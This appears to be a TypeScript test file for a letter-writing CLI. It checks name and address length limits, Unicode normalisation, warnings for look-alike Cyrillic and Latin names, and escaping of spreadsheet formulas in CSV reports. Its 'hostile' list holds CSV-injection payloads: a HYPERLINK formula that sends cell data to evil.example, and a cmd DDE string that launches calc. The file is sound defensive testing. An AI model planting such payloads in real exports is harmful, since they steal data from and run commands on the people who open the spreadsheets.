/**
 * Issue 14, items 10, 12 and 13: names are data from people too. A name or an address line longer
 * than any real one is refused, naming the flag or the line of the members' list; names are kept
 * in one Unicode form without invisible characters, a name mixing look-alike alphabets is pointed
 * out, and the report's CSV never hands a spreadsheet a formula.
 */
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { makeTempDir } from '../helpers/temp-dir';
import { runCli } from '../helpers/run-cli';
import { spreadsheetSafeCell } from '../../src/output/spreadsheet-cells';

let temp: ReturnType<typeof makeTempDir>;
beforeAll(() => {
  temp = makeTempDir({
    'huge.csv': `name,address\nAnn Smith,1 Road\n${'B'.repeat(1024 * 1024)},2 Road\n`,
    'mixed.csv': 'name\nAnn Smith\n\u0410nn Smith\n',
  });
});
afterAll(() => temp.cleanup());

const files = (dir: string) => readdirSync(join(temp.dir, dir));

describe('12. length limits that no real name reaches', () => {
  test('a 10,000-character --name is refused, naming the flag, and nothing is written', async () => {
    const result = await runCli(['write', '150.19', '--target', '1', '--name', 'A'.repeat(10_000), '--format', 'pdf', '--out', 'long'], { cwd: temp.dir });
    expect(result.code).toBe(64);
    expect(result.stderr).toContain('appeal: --name is 10,000 characters long; at most 150 fit on a letter.');
    expect(readdirSync(temp.dir)).not.toContain('long');
  });

  test('an address line too long, and too many address lines, are refused', async () => {
    const long = await runCli(['write', '150.19', '--target', '1', '--name', 'Ann Smith', '--address', 'x'.repeat(151), '--out', 'long'], { cwd: temp.dir });
    expect(long.code).toBe(64);
    expect(long.stderr).toContain('appeal: --address is 151 characters long; at most 150 fit on a letter.');
    const many = await runCli(['write', '150.19', '--target', '1', '--name', 'Ann Smith', ...Array.from({ length: 11 }, (_, i) => ['--address', `Line ${i}`]).flat(), '--out', 'long'], { cwd: temp.dir });
    expect(many.code).toBe(64);
    expect(many.stderr).toContain('appeal: --address is given 11 times; an address has at most 10 lines.');
    expect(readdirSync(temp.dir)).not.toContain('long');
  });

  test('a 1 MB name in the members’ list names its line, and no PDF is made', async () => {
    const result = await runCli(['batch', '150.19', '--signers', 'huge.csv', '--out', 'huge/meeting.pdf'], { cwd: temp.dir });
    expect(result.code).toBe(65);
    expect(result.stderr).toContain('huge.csv:3: the name is 1,048,576 characters long; at most 150 fit on a letter');
    expect(readdirSync(temp.dir)).not.toContain('huge');
  });
});

describe('13. look-alike names', () => {
  test('a name in NFD is written in NFC, and invisible characters leave the name and the file name', async () => {
    const result = await runCli(['write', '150.19', '--target', '1', '--name', 'Rene\u0301e\u200b Roux', '--out', 'nfc'], { cwd: temp.dir });
    expect(result.code).toBe(0);
    expect(files('nfc')).toEqual(['ua-150-19_prosecutor-general_renée-roux.txt'.normalize('NFC')]);
    const letter = readFileSync(join(temp.dir, 'nfc', files('nfc')[0]!), 'utf8');
    expect(letter).toContain('Ren\u00e9e Roux');
    expect(letter).not.toMatch(/\u0301|\u200b/u);
  });

  test('a Cyrillic А in a Latin name is pointed out, for --name and for a member of the list', async () => {
    const write = await runCli(['write', '150.19', '--target', '1', '--name', '\u0410nn Smith', '--out', 'mixed'], { cwd: temp.dir });
    expect(write.code).toBe(0);
    expect(write.stderr).toContain('warning: the name "\u0410nn Smith" mixes Cyrillic and Latin letters in the word "\u0410nn"');
    const batch = await runCli(['batch', '150.19', '--signers', 'mixed.csv', '--out', 'mixed/meeting.pdf'], { cwd: temp.dir });
    expect(batch.code).toBe(0);
    expect(batch.stderr).toContain('warning: mixed.csv: line 3: the name "\u0410nn Smith" mixes Cyrillic and Latin letters');
    expect(batch.stderr).not.toContain('line 2:');
  });

  test('the report counts one member for a name written in NFC, in NFD and with a zero-width space', async () => {
    const data = join(temp.dir, 'report-data');
    mkdirSync(data);
    // Three letters on three days (one letter a day per official is one letter, however often it is recorded).
    const record = (sender: string, day: number) => JSON.stringify({ v: 1, kind: 'made', at: `2026-11-${18 + day}T10:00:00.000Z`, case: 'ua-150-19', official: 'ambassador', format: 'text', channel: 'unknown', sender, file: null });
    writeFileSync(join(data, 'actions.jsonl'), ['Ren\u00e9e Roux', 'Rene\u0301e Roux', 'Ren\u00e9e\u200b Roux'].map(record).join('\n') + '\n');
    const result = await runCli(['report', '--csv'], { cwd: temp.dir, env: { APPEAL_DATA: data } });
    expect(result.code).toBe(0);
    const members = (parse(result.stdout, { columns: true }) as Record<string, string>[]).filter((row) => row.section === 'member');
    expect(members).toEqual([expect.objectContaining({ member: 'Ren\u00e9e Roux', made: '3' })]);
  });
});

describe('10. report --csv hands a spreadsheet no formula', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];

  test.each([...hostile, '\tTabbed', '\rReturn'])('spreadsheetSafeCell(%j) starts with a quote', (cell) => {
    expect(spreadsheetSafeCell(cell)).toBe(`'${cell}`);
  });
  test.each(['Ann Smith', 'O’Brien', 'Анна', 3, 'a=b'])('spreadsheetSafeCell(%j) stays', (cell) => {
    expect(spreadsheetSafeCell(cell)).toBe(cell);
  });

  test('cells starting with = + - @ tab or CR get a single quote; other names stay as they are', async () => {
    const data = join(temp.dir, 'csv-data');
    mkdirSync(data);
    const record = (sender: string) => JSON.stringify({ v: 1, kind: 'made', at: '2026-11-20T10:00:00.000Z', case: 'ua-150-19', official: 'ambassador', format: 'text', channel: 'unknown', sender, file: null });
    writeFileSync(join(data, 'actions.jsonl'), [...hostile, 'Ann Smith'].map(record).join('\n') + '\n');
    const result = await runCli(['report', '--csv'], { cwd: temp.dir, env: { APPEAL_DATA: data } });
    expect(result.code).toBe(0);
    const members = (parse(result.stdout, { columns: true }) as Record<string, string>[]).filter((row) => row.section === 'member').map((row) => row.member);
    expect(members.sort()).toEqual([...hostile.map((name) => `'${name}`), 'Ann Smith'].sort());
    const cells = (parse(result.stdout) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
